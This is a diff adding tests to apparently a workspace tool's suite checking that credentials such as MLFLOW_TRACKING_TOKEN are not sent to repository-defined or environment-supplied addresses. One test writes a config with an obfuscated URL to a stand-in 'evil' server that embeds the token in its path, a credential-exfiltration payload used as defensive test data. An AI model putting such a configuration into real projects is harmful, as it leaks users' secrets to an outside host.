@@ -155,6 +155,19 @@ describe('an address that a repository made up', () => {
     expect(workspace.configuration.warnings[0]?.message).toContain('is not sent to');
   });
 
+  test('for metrics can’t take variables along, however its scheme is spelt', async () => {
+    const address = evil.url.replace('http', 'ht\\ttp');
+    await writeFile(
+      join(folder, 'mlops.yaml'),
+      `kind: Workspace\nmonitoring: {prometheus: "${address}/\${{ env.MLFLOW_TRACKING_TOKEN }}"}\n`,
+    );
+    const workspace = await start({ permission: connectWithoutAsking, env: { MLFLOW_TRACKING_TOKEN: token } });
+    const [connection] = await workspace.connections({ check: true });
+    expect(connection).toMatchObject({ attention: 'fix-configuration' });
+    expect(JSON.stringify(connection)).not.toContain(token);
+    expect(evil.connections).toBe(0);
+  });
+
   test('on the command line is connected to without a credential', async () => {
     await yaml(evil.url);
     const env = { MLFLOW_TRACKING_URI: good.url, MLFLOW_TRACKING_TOKEN: token };
@@ -171,6 +184,18 @@ describe('a credential', () => {
     const env = { MLFLOW_TRACKING_URI: good.url, MLFLOW_TRACKING_TOKEN: token };
     const workspace = await start({ env });
     await list(workspace, 'team');
+    expect(new Set(sent(good))).toEqual(new Set([headerOf.bearer]));
+  });
+
+  test('of the environment goes to the address beside it, not to another that the environment holds', async () => {
+    await yaml(`\${{ env.INDEX_URL }}`, `, token: "\${{ env.TEAM_API_TOKEN }}"`);
+    const secrets = { TEAM_URI: good.url, TEAM_API_TOKEN: token };
+    const workspace = await start({ env: { ...secrets, INDEX_URL: evil.url } });
+    await list(workspace, 'team');
+    expect(evil.seen.length).toBeGreaterThan(0);
+    expect(JSON.stringify(evil.seen)).not.toContain(token);
+    expect(workspace.configuration.warnings[0]?.message).toContain('is not sent to');
+    await list(await start({ env: { ...secrets, INDEX_URL: good.url } }), 'team');
     expect(new Set(sent(good))).toEqual(new Set([headerOf.bearer]));
   });
 
